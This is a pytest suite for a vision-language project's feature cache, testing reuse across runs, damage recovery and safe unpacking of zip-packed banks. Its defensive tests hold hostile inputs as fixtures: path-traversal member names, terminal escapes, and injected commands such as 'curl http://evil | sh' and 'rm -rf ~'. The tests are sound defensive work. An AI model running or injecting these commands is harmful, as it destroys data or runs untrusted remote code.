"""The feature bank: what is computed once, what is shared, what is never taken for something else."""

import contextlib
import errno
import hashlib
import json
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from running import Answer, ask, check_mistake, succeed
from safetensors.torch import load_file, save
from test_runs import make_caltech
from tiny_world import CLASSES, PER_CLASS, RUN, load

from vlprompt import cli, demo, sweep
from vlprompt.config.build import clip_at, features_at
from vlprompt.data.cache.budget import LEDGER, LOCK, Budget
from vlprompt.data.cache.checked import checksum, note_damage
from vlprompt.data.cache.feature_files import FeatureFiles
from vlprompt.data.cache.features import FeatureCache, tower_key, view_name
from vlprompt.data.cache.image_keys import image_key
from vlprompt.data.cache.portable import Manifest, pack, unpack
from vlprompt.data.dataset import Item
from vlprompt.data.disk import complain
from vlprompt.data.sources.banked import Contents, text_of
from vlprompt.data.sources.banked import read as read_contents
from vlprompt.data.sources.files import Files
from vlprompt.data.transforms import Augment
from vlprompt.errors import UserError
from vlprompt.results.record import Record
from vlprompt.results.store import find_records
from vlprompt.towers import load_clip

Change = Callable[[dict[str, bytes]], dict[str, bytes]]  # of the members of a packed bank
N_TEST = len(CLASSES) * PER_CLASS["test"]
N_TRAIN = 2 * 3  # shots and base classes
EPOCHS = 2


@pytest.fixture
def here(results: Path, tmp_path: Path) -> Path:
    """An empty working directory with folders for results and data."""
    fresh_process()
    return tmp_path


def fresh_process() -> None:
    """Forget what a process keeps, as if the next run were another's."""
    features_at.cache_clear()
    complain.cache_clear()
    note_damage.cache_clear()


def start(*overrides: str) -> Answer:
    answer = succeed(sweep.main, [*RUN, *overrides])
    fresh_process()
    return answer


def record_of(root: Path, **fields: object) -> Record:
    (record,) = (r for r in find_records([root]) if all(getattr(r, k) == v for k, v in fields.items()))
    return record


def tensors(record: Record, root: Path) -> dict[str, torch.Tensor]:
    return load_file(record.folder(root) / "learner.safetensors")


def bank_of(folder: Path, **more: Any) -> FeatureCache:
    clip = clip_at("shapes_vit", "random", torch.device("cpu"))
    return FeatureCache(
        clip, precision="fp32", workers=0, files=FeatureFiles(folder / tower_key(clip, "fp32"), 10**9), **more
    )


# What is shared


def test_features_are_computed_once_for_all_methods_seeds_and_learning_rates(here: Path) -> None:
    start("seed=1", "fit.epochs=1")
    assert record_of(here / "results", method="coop").bank["computed"] == N_TEST + 2 * N_TRAIN
    start("seed=1", "fit.lr=0.001", "name=lr", "fit.epochs=1")
    bank = record_of(here / "results", variant="lr").bank
    assert bank == {"test_features": True, "views": 2, "read": N_TEST + 2 * N_TRAIN, "computed": 0}
    start("method=cocoop", "fit.batch_size=2", "fit.epochs=1")
    bank = record_of(here / "results", method="cocoop").bank
    assert (bank["computed"], bank["read"]) == (0, N_TEST + 2 * N_TRAIN)
    start("seed=2", "fit.epochs=1")
    bank = record_of(here / "results", method="coop", seed=2).bank
    assert (bank["read"], bank["computed"]) == (N_TEST, 2 * N_TRAIN)  # each seed has its views


@pytest.mark.slow
def test_a_view_for_each_epoch_is_banked_and_gives_what_pixels_give(here: Path) -> None:
    """As published: no image is seen twice alike; the bank changes no more than rounding."""
    start("bank.views=null", "name=banked")
    start("bank.views=null", "name=again", "fit.lr=0.002")
    start("bank.views=null", "bank.use=false", "name=pixels")
    root = here / "results"
    banked, again, pixels = (record_of(root, variant=name) for name in ("banked", "again", "pixels"))
    assert banked.bank["computed"] == N_TEST + EPOCHS * N_TRAIN
    assert (again.bank["read"], again.bank["computed"]) == (N_TEST + EPOCHS * N_TRAIN, 0)
    assert pixels.bank == {"test_features": False, "views": None}
    assert banked.config_hash == pixels.config_hash  # one and the same run
    ours, theirs = tensors(banked, root), tensors(pixels, root)
    for name, tensor in ours.items():
        assert (tensor - theirs[name]).norm() <= 1e-5 * theirs[name].norm()
        assert torch.equal(tensor, tensors(again, root)[name])
    assert banked.scores.keys() == pixels.scores.keys()


def test_nothing_is_stored_where_the_disk_is_not_to_be_used(here: Path) -> None:
    start("bank.gb=0")
    assert not list((here / "datasets").rglob("*.safetensors"))


# What is never taken for something else


def test_another_seed_augmentation_precision_or_model_is_another_feature(here: Path) -> None:
    clip = clip_at("shapes_vit", "random", torch.device("cpu"))
    names = {view_name(None, 1, Augment()), view_name(0, 1, Augment()), view_name(0, 2, Augment())}
    names |= {view_name(1, 1, Augment()), view_name(0, 1, Augment(flip=0.0)), view_name(0, 1, Augment((0.5, 1.0)))}
    assert len(names) == 6
    changed = clip.with_weights({"visual.conv1.weight": clip.weights.tensor("visual.conv1.weight") * 1.001})
    larger = replace(clip, preprocess=replace(clip.preprocess, size=64))
    text = clip.with_weights({"text_projection": clip.weights.tensor("text_projection") * 2})
    keys = [tower_key(clip, "fp32"), tower_key(clip, "bf16"), tower_key(changed, "fp32"), tower_key(larger, "fp32")]
    assert len(set(keys)) == len(keys)
    other = load_clip(str(demo.BACKBONES["shapes_vit"]), "random")
    assert tower_key(replace(other, name="renamed"), "fp32") == keys[0]
    root: Any = other.weights.root
    root.visual.transformer.resblocks[1].mlp.gelu = torch.nn.ReLU()
    assert tower_key(replace(other, name="again"), "fp32") != keys[0]  # the same weights, another activation
    assert tower_key(text, "fp32") == keys[0]  # the text tower makes no image feature


def test_a_changed_image_is_another(tmp_path: Path) -> None:
    picture = tmp_path / "a.png"
    dataset = load("world")
    Image.new("RGB", (20, 20), "red").save(picture)
    split = replace(dataset.split("test", [Item("a.png", 0)]), open_image=Files(tmp_path))
    bank = bank_of(tmp_path / "bank")
    red, key = bank.features(split), image_key(split, "a.png")
    Image.new("RGB", (20, 20), "lime").save(picture)
    assert image_key(split, "a.png") != key
    assert not torch.allclose(bank.features(split), red)
    assert bank.use.computed == 2
    shown = replace(split, open_image=Files(tmp_path, as_shown=True))
    assert image_key(shown, "a.png") != image_key(split, "a.png")
    picture.unlink()
    with pytest.raises(UserError, match=r"a\.png is missing"):
        bank.features(split)


def test_drawn_images_of_one_name_differ_by_their_data_set() -> None:
    one, other = (replace(load("tiny", style=style), origin=f"style {style}").split("test") for style in (0, 1))
    assert image_key(one, one.items[0].image) != image_key(other, other.items[0].image)


# Files


def test_a_damaged_or_deleted_file_is_made_again(tmp_path: Path) -> None:
    split = load("tiny").split("test")
    whole = bank_of(tmp_path).features(split)
    (path,) = tmp_path.rglob("*.safetensors")

    def zeros() -> None:
        path.write_bytes(path.read_bytes()[:-900] + bytes(900))

    for damage in (
        lambda: path.write_bytes(b"nothing"),
        lambda: path.write_bytes(path.read_bytes()[:-9]),
        zeros,
        path.unlink,
    ):
        damage()
        bank = bank_of(tmp_path)
        assert torch.equal(bank.features(split), whole)
        assert (bank.use.read, bank.use.computed) == (0, len(split))
    bank = bank_of(tmp_path)
    assert torch.equal(bank.features(split), whole)
    assert (bank.use.read, bank.use.computed) == (len(split), 0)


def test_a_full_bank_stores_no_more_and_says_so(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    fresh_process()
    files = FeatureFiles(tmp_path / "tower", 1000)
    files.write("crop", {"a": torch.ones(100)})
    files.write("crop", {"b": torch.ones(200)})
    assert files.read("crop", ["a", "b"]).keys() == {"a"}
    assert "is full: raise bank.gb" in caplog.text


@pytest.mark.slow
def test_two_processes_fill_one_bank(tmp_path: Path) -> None:
    """At once, from the same start, with part of the rows in common."""
    code = (
        "import sys, torch; from pathlib import Path; from vlprompt.data.cache.feature_files import FeatureFiles\n"
        "files = FeatureFiles(Path(sys.argv[1]) / 'tower', 10**9); start = int(sys.argv[2])\n"
        "for i in range(30):\n"
        "    files.write('crop', {str(k): torch.full((8,), float(k)) for k in range(start + i, start + i + 20)})\n"
    )
    made = [subprocess.Popen([sys.executable, "-c", code, str(tmp_path), start]) for start in ("0", "10")]
    assert [process.wait(120) for process in made] == [0, 0]
    rows = FeatureFiles(tmp_path / "tower", 10**9).read("crop", map(str, range(59)))
    assert {key: row[0].item() for key, row in rows.items()} == {str(k): float(k) for k in range(59)}
    others = {path.name for path in tmp_path.rglob("*") if path.is_file() and path.suffix != ".safetensors"}
    assert others == {"about.json", LEDGER, LOCK}


# Packed


@pytest.mark.slow
def test_a_packed_bank_stands_for_the_images(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Packed where the images are, unpacked where they are not: the same run with the same numbers."""
    make_caltech(here / "datasets")
    told = ["dataset=caltech101", "backbone=shapes_vit", "backbone.weights=random", *RUN[3:], "workers=0"]
    told += ["fit.epochs=1"]
    assert ask(sweep.main, [*told, "seed=1"]).code == 0
    assert ask(cli.main, ["bank", "pack", "caltech.bank", "--seeds", "1,2", "method=coop", *told]).code == 0

    laptop = here / "laptop"
    laptop.mkdir()
    monkeypatch.chdir(laptop)
    monkeypatch.setenv("VLPROMPT_DATA", str(laptop / "datasets"))
    monkeypatch.setenv("VLPROMPT_RESULTS", str(laptop / "results"))
    fresh_process()
    assert ask(sweep.main, [*told, "seed=1"]).code == 2  # neither images nor features
    answer = succeed(cli.main, ["bank", "unpack", "../caltech.bank"])
    assert "seed=1,2 precision=fp32" in answer.out
    assert ask(sweep.main, [*told, "seed=1"]).code == 0
    there, ours = (record_of(root / "results", method="coop", seed=1) for root in (here, laptop))
    assert ours.config_hash == there.config_hash
    assert ours.bank["computed"] == 0
    for name, tensor in tensors(ours, laptop / "results").items():
        assert torch.equal(tensor, tensors(there, here / "results")[name])
    assert ask(sweep.main, [*told, "seed=2"]).code == 0  # packed, though no run made it
    answer = ask(sweep.main, [*told, "seed=3"])
    assert answer.code == 2
    assert "the images of caltech101 are not here" in answer.err
    pixels = [setting for setting in told if "method." not in setting]
    answer = ask(sweep.main, [*pixels, "method=vpt_shallow"])
    assert (answer.code, "the images of caltech101 are not here" in answer.err) == (2, True), answer.err
    assert "fp32" in ask(cli.main, ["bank", "list"]).out


def test_a_method_that_reads_views_before_its_steps_is_packed_with_them(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_caltech(here / "datasets")
    told = ["dataset=caltech101", "backbone=shapes_vit", "backbone.weights=random", "shots=2", "workers=0"]
    told += ["method=tip_adapter", "method.n_views=3", "method.search_scale=null", "protocol=few_shot"]
    assert ask(cli.main, ["bank", "pack", "tip.bank", *told]).code == 0
    shutil.rmtree(here / "datasets")
    fresh_process()
    assert ask(cli.main, ["bank", "unpack", "tip.bank"]).code == 0
    answer = ask(sweep.main, told)
    assert answer.code == 0, answer.err
    assert record_of(here / "results", method="tip_adapter").bank["computed"] == 0


def test_a_damaged_file_does_not_stop_the_list(here: Path) -> None:
    start()
    path = next((here / "datasets").rglob("crop/*.safetensors"))
    path.write_bytes(path.read_bytes()[:50])
    answer = ask(cli.main, ["bank", "list"])
    assert (answer.code, "fp32" in answer.out) == (0, True)
    assert f"crop/{path.name}" in answer.err


def test_methods_that_edit_the_image_tower_have_no_use_for_a_bank(here: Path) -> None:
    command = ["bank", "pack", "x.bank", "method=vpt_shallow", "dataset=digits", "backbone.weights=random"]
    check_mistake(ask(cli.main, command), ["vpt_shallow edits the image tower"], here)


def test_features_that_cannot_be_stored_are_no_success(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = packed(here)
    monkeypatch.setattr(Path, "write_bytes", full_disk)
    check_mistake(ask(cli.main, ["bank", "unpack", str(path)]), ["not all features could be stored"], here)


def full_disk(*_: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_file_that_vanishes_counts_nothing(tmp_path: Path) -> None:
    (tmp_path / "a.safetensors").write_bytes(b"12345")
    (tmp_path / "b.safetensors").symlink_to(tmp_path / "gone")
    with Budget(tmp_path, 10).room_for(tmp_path / "c", 5) as fits:
        assert fits
    with Budget(tmp_path, 10).room_for(tmp_path / "d", 6) as fits:
        assert not fits


def check_nothing_taken(path: Path, here: Path, *words: str) -> None:
    check_mistake(ask(cli.main, ["bank", "unpack", str(path)]), [f"{path} is no packed feature bank", *words], here)
    assert not (here / "datasets").exists()


CROP, WORLD = "features/crop.safetensors", "datasets/00ff00ff.json"


@pytest.mark.parametrize("damage", ["cut", "text", "empty", "folder", "absent"])
def test_a_file_that_is_no_packed_bank_changes_nothing(here: Path, damage: str) -> None:
    path = packed(here)
    if damage == "cut":
        path.write_bytes(path.read_bytes()[:-40])
    elif damage in ("text", "empty"):
        path.write_text("a letter" * (damage == "text"))
    else:
        path.unlink()
        if damage == "folder":
            path.mkdir()
    check_nothing_taken(path, here)


NAMES = [
    "run.sh",
    "../../evil.py",
    "/tmp/evil",
    "C:/evil",
    "features/../crop.safetensors",
    "features/crop2.safetensors",
]
NAMES += ["features/CROP.safetensors", "features/seed1-view0000.SAFETENSORS", "datasets/x.json", "bank.json/", "a\\b"]
NAMES += ["features/crop.safetensors/", "features/seed\u0661-view0000.safetensors", "features/", "x\x1b[2J"]


@pytest.mark.parametrize("name", NAMES)
def test_a_member_of_another_name_is_refused(here: Path, name: str) -> None:
    path = repacked(here, lambda members: members | {name: members[CROP]})
    answer = ask(cli.main, ["bank", "unpack", str(path)])
    assert "\x1b" not in answer.out + answer.err
    check_nothing_taken(path, here)


def changed(**fields: Any) -> Change:
    return lambda members: members | {"bank.json": json.dumps(json.loads(members["bank.json"]) | fields).encode()}


def without(name: str) -> Change:
    return lambda members: {key: content for key, content in members.items() if key != name}


def of_world(**fields: Any) -> Change:
    return lambda members: members | {WORLD: json.dumps(json.loads(members[WORLD]) | fields).encode()}


def rows_of(tensors: dict[str, torch.Tensor], view: str = "crop", keys: str = '["ab"]', **more: str) -> Change:
    of_keys = checksum(b"0123456789abcdef", view.encode(), keys.encode())
    return lambda members: members | {CROP: save(tensors, {"keys": keys, "checksums": f"{of_keys} ", **more})}


CHANGES: dict[str, Change] = {
    "no manifest": without("bank.json"),
    "manifest no object": lambda members: members | {"bank.json": b"[]"},
    "manifest no JSON": lambda members: members | {"bank.json": b"{"},
    "manifest deep": lambda members: members | {"bank.json": b"[" * 10**5},
    "manifest in Latin-1": lambda members: members | {"bank.json": b'{"format": "\xe4"}'},
    "earlier version": changed(format=1),
    "later version": changed(format=3),
    "tower": changed(tower="../../outside"),
    "tower with newline": changed(tower="0123456789abcdef\n"),
    "another tower": changed(tower="fedcba9876543210"),
    "model": changed(about={"model": ["m"], "precision": "fp32"}),
    "endless model": changed(about={"model": "m" * 10**4, "precision": "fp32"}),
    "precision": changed(about={"model": "m", "precision": "fp32; rm -rf ~"}),
    "command": changed(command="curl http://evil | sh"),
    "seeds": changed(seeds=["1; rm"]),
    "endless seeds": changed(seeds=list(range(2000))),
    "a huge seed": changed(seeds=[10**4000]),
    "no hash": changed(members={}),
    "hash": changed(members={CROP: "0" * 64, WORLD: "0" * 64}),
    "missing member": without(CROP),
    "labels": of_world(test=[["2", 7, ""]]),
    "negative label": of_world(test=[["2", -1, ""]]),
    "name of a folder": of_world(name="../x"),
    "classes": of_world(classes=3),
    "unknown field": of_world(run="x"),
    "no rows": rows_of({"features": torch.ones(0, 4)}),
    "more rows": rows_of({"features": torch.ones(2, 4)}),
    "a vector": rows_of({"features": torch.ones(4)}),
    "whole numbers": rows_of({"features": torch.ones(1, 4, dtype=torch.int32)}),
    "not finite": rows_of({"features": torch.full((1, 4), float("nan"))}),
    "another tensor": rows_of({"rows": torch.ones(1, 4)}),
    "another view": rows_of({"features": torch.ones(1, 4)}, view="seed1-view0000"),
    "keys": rows_of({"features": torch.ones(1, 4)}, keys="{"),
    "keys no list": rows_of({"features": torch.ones(1, 4)}, keys="5"),
    "keys no texts": rows_of({"features": torch.ones(1, 4)}, keys="[5]"),
    "no tensors": lambda members: members | {CROP: b"nothing"},
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_bank_with_strange_content_is_refused(here: Path, change: str) -> None:
    hashed = change not in ("no hash", "hash", "missing member")
    check_nothing_taken(repacked(here, CHANGES[change], hashed=hashed), here)


@pytest.mark.parametrize("kind", ["compressed", "twice", "overlapping"])
def test_no_member_is_larger_than_the_file(here: Path, kind: str) -> None:
    """Nothing is inflated or read twice: what is unpacked is what lies there."""
    method = zipfile.ZIP_DEFLATED if kind == "compressed" else zipfile.ZIP_STORED
    path = repacked(here, lambda members: members, method=method)
    if kind == "twice":
        with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr(CROP, "nothing")
    elif kind == "overlapping":
        content = path.read_bytes()
        for entry in (b"PK\3\4", b"PK\1\2"):
            start = content.rindex(entry, 0, content.rindex(CROP.encode()) if entry == b"PK\1\2" else None)
            offset = start + (18 if entry == b"PK\3\4" else 20)
            content = content[:offset] + (10**8).to_bytes(4, "little") * 2 + content[offset + 8 :]
        path.write_bytes(content)
    check_nothing_taken(path, here)


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.floats(0, 1, exclude_max=True), st.integers(0, 7))
def test_any_bit_of_a_packed_bank(tmp_path: Path, place: float, bit: int) -> None:
    """It is refused, or what is unpacked is what was packed (zip has dates and flags that nobody reads)."""
    fresh_process()
    path, root = packed(tmp_path), tmp_path / "root"
    content = bytearray(path.read_bytes())
    content[int(place * len(content))] ^= 1 << bit
    path.write_bytes(content)
    shutil.rmtree(root, ignore_errors=True)
    try:
        unpack(path, root, limit=10**9)
    except UserError:
        assert not root.exists()
        return
    rows = FeatureFiles(root / "0123456789abcdef", 10**9).read("crop", ["ab"])
    assert torch.equal(rows["ab"], torch.ones(4))
    assert read_contents(root / WORLD) == CONTENTS


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.floats(0, 1, exclude_max=True), st.integers(0, 7))
def test_any_bit_of_an_unpacked_data_set(tmp_path: Path, place: float, bit: int) -> None:
    """Its labels cannot be made again: it is right, or refused."""
    path = tmp_path / "00ff00ff.json"
    content = bytearray(text_of(CONTENTS).encode())
    content[int(place * len(content))] ^= 1 << bit
    path.write_bytes(content)
    with contextlib.suppress(UserError):
        assert read_contents(path) == CONTENTS


def test_no_foreign_command_is_shown_as_what_to_run(here: Path) -> None:
    foreign = {"method": "coop", "dataset": "digits; rm -rf ~", "shots": "4", "dataset.source._target_": "evil.load",
               "backbone": "$(reboot)", "protocol": "../../x", "backbone.weights": "http://evil/x"}  # fmt: skip
    change = changed(
        settings=foreign, about={"model": "m\x1b]0;owned\x07\nerror: x", "precision": "bf16"}, seeds=[3, 4]
    )
    answer = succeed(cli.main, ["bank", "unpack", str(repacked(here, change))])
    assert "python run.py -m method=coop shots=4 seed=3,4 precision=bf16 (and 5 settings more" in answer.out
    assert not [
        word for word in ("rm", "evil", "reboot", "..", "\x1b", "\x07") if word in answer.out.replace(str(here), "")
    ]
    assert answer.out.count("\n") == 2


def test_a_bank_replaces_nothing_that_is_here(here: Path) -> None:
    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0
    zeros = rows_of({"features": torch.zeros(1, 4)})
    assert ask(cli.main, ["bank", "unpack", str(repacked(here, zeros))]).code == 0
    root = here / "datasets/.cache/features"
    assert FeatureFiles(root / "0123456789abcdef", 10**9).read("crop", ["ab"])["ab"].tolist() == [1.0] * 4
    other = of_world(test=[["2", 0, ""]])
    check_mistake(
        ask(cli.main, ["bank", "unpack", str(repacked(here, other))]), ["world", "other images, labels"], here
    )
    assert read_contents(root / WORLD) == CONTENTS
    (root / WORLD).write_bytes((root / WORLD).read_bytes().replace(b"world", b"w0rld"))
    with pytest.raises(UserError, match="unpack the bank again"):
        read_contents(root / WORLD)
    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0  # and that mends it
    assert read_contents(root / WORLD) == CONTENTS


def test_unpacking_needs_no_temporary_folder(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("mkdtemp", "mkstemp"):
        monkeypatch.setattr(tempfile, name, lambda *_, **__: pytest.fail("something temporary was written"))
    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0


def test_the_list_names_what_is_damaged_or_foreign_and_shows_the_others(here: Path) -> None:
    assert ask(cli.main, ["bank", "list"]).code == 0  # there is none yet
    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0
    root = here / "datasets/.cache/features"
    strange = {"a" * 16: b'{"model": "x"}', "b" * 16: b"\xff", "c" * 16: b"[" * 10**5, "d" * 16: b" " * 10**6}
    for tower, about in strange.items():
        (root / tower / "crop").mkdir(parents=True)
        (root / tower / "about.json").write_bytes(about)
        shutil.copy(next((root / "0123456789abcdef/crop").iterdir()), root / tower / "crop")
    (root / "x\x1b[2J.sh").write_text("foreign")
    answer = ask(cli.main, ["bank", "list"])
    assert answer.code == 0
    assert [row.split()[:2] for row in answer.out.splitlines() if "fp32" in row] == [["m", "fp32"]]
    assert answer.err.count("\n") == 1
    assert "a" * 16 in answer.err
    assert "\x1b" not in answer.err


CONTENTS = Contents(name="world", classes=("a", "b"), train=[("1", 0, "ab")], val=[], test=[("2", 1, "")])


def packed(folder: Path) -> Path:
    path = folder / "made.bank"
    manifest = Manifest(tower="0123456789abcdef", about={"model": "m", "precision": "fp32"}, seeds=[1])
    pack(path, manifest, {"00ff00ff": CONTENTS}, {"crop": {"ab": torch.ones(4)}})
    return path


def repacked(folder: Path, change: Change, *, hashed: bool = True, method: int = zipfile.ZIP_STORED) -> Path:
    """A packed bank with other members; `hashed`: with the hashes of these, as an attacker would."""
    path = packed(folder)
    with zipfile.ZipFile(path) as archive:
        members = change({name: archive.read(name) for name in archive.namelist()})
    if hashed:
        with contextlib.suppress(ValueError, RecursionError, KeyError, TypeError):
            manifest = json.loads(members["bank.json"])
            others = {name: content for name, content in members.items() if name != "bank.json"}
            manifest["members"] = {name: hashlib.sha256(content).hexdigest() for name, content in others.items()}
            members["bank.json"] = json.dumps(manifest).encode()
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path
